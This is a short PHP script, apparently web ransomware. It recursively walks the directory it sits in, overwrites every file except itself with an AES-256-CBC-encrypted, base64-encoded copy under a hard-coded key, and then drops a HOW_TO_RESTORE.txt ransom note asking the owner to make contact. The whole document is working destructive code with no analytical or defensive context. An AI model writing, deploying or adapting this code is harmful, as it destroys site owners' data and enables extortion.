<?php
// every file of the site rewritten encrypted in place, and a note left for the owner
$key = hash('sha256', 'operator-key-42', true);
$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator(__DIR__, FilesystemIterator::SKIP_DOTS));
foreach ($it as $file) {
    $path = $file->getPathname();
    if ($path === __FILE__) {
        continue;
    }
    $plain = file_get_contents($path);
    $iv = random_bytes(16);
    file_put_contents($path, base64_encode($iv . openssl_encrypt($plain, 'aes-256-cbc', $key, OPENSSL_RAW_DATA, $iv)));
}
file_put_contents(__DIR__ . '/HOW_TO_RESTORE.txt', 'Files encrypted. Write to the address below.');
